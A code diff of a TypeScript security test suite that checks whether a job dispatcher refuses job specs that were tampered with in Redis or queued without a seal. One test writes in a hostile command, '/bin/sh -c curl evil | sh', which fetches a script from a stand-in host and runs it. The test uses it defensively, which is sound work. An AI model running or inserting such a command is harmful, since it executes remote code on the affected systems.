@@ -16,7 +16,7 @@ import {
   ServiceSealer,
   type ProxyCredential,
 } from "../../security/index.ts";
-import { autoclusterId, autoclusterKey } from "../../matchmaker/autocluster.ts";
+import { DispatchQueues, JobStore } from "../../jobs/index.ts";
 import { CredentialClient, startCredentialCache, type CredentialCache } from "../../agents/credentials/index.ts";
 import { createJobs } from "../matchmaker/fixtures.ts";
 import { TestPilot } from "../matchmaker/pilot-client.ts";
@@ -65,12 +65,11 @@ describe("attacks on what Redis holds", () => {
   it("refuses to sign a queued spec rewritten in Redis (E1721): the job fails, the pilot runs nothing", async () => {
     const [spec] = await createJobs(h.store, { site: "ATTACK_S", userDn: VICTIM_DN }, 1);
     await h.dispatch.enqueue([spec]);
-    // The attacker rewrites the queued job's command through BullMQ's own client, keeping its seal.
-    const q = new Queue(h.loaded.names.siteQueue("ATTACK_S", autoclusterId(autoclusterKey(spec))), { connection: h.bull, prefix: h.loaded.names.bullPrefix, skipVersionCheck: true });
-    const job = await q.getJob(spec.jobId);
-    expect(job?.data.seal).toBeDefined();
-    await job?.updateData({ ...(job.data as JobSpec), executable: "/bin/sh", arguments: ["-c", "curl evil | sh"] });
-    await q.close();
+    // The attacker rewrites the job's command in its record (the queue holds only its id), keeping its seal.
+    const key = h.loaded.names.redisKey("job", spec.jobId);
+    const stored = JSON.parse((await h.redis.hget(key, "spec")) ?? "{}") as JobSpec;
+    expect(stored.seal).toBeDefined();
+    await h.redis.hset(key, "spec", JSON.stringify({ ...stored, executable: "/bin/sh", arguments: ["-c", "curl evil | sh"] }));
 
     const pilot = new TestPilot(h.nc, h.loaded.names, "ATTACK_S", await h.token("ATTACK_S"));
     const reply = await pilot.advertise();
@@ -85,13 +84,11 @@ describe("attacks on what Redis holds", () => {
   });
 
   it("refuses a spec queued without the intake's seal at all", async () => {
-    const [spec] = await createJobs(h.store, { site: "ATTACK_U", userDn: VICTIM_DN }, 1);
-    const q = new Queue(h.loaded.names.siteQueue("ATTACK_U", autoclusterId(autoclusterKey(spec))), { connection: h.bull, prefix: h.loaded.names.bullPrefix, skipVersionCheck: true });
-    // Straight onto BullMQ, bypassing the intake (and so its seal).
-    const raw = new (await import("../../matchmaker/dispatch-queues.ts")).DispatchQueues({ connection: h.bull, redis: h.redis, names: h.loaded.names, lockMs: 30_000, stalledIntervalMs: 30_000 });
+    // Recorded and queued bypassing the intake (and so its seal).
+    const [spec] = await createJobs(new JobStore(h.redis, h.loaded.names), { site: "ATTACK_U", userDn: VICTIM_DN }, 1);
+    const raw = new DispatchQueues({ connection: h.bull, redis: h.redis, names: h.loaded.names, lockMs: 30_000, stalledIntervalMs: 30_000 });
     await raw.enqueue([spec]);
     await raw.close();
-    await q.close();
     const pilot = new TestPilot(h.nc, h.loaded.names, "ATTACK_U", await h.token("ATTACK_U"));
     expect((await pilot.advertise()).status).toBe("nomatch");
     await expect.poll(async () => (await h.store.getJob(spec.jobId))?.errorCode).toBe(ERR.SEC_SPEC_UNSEALED);
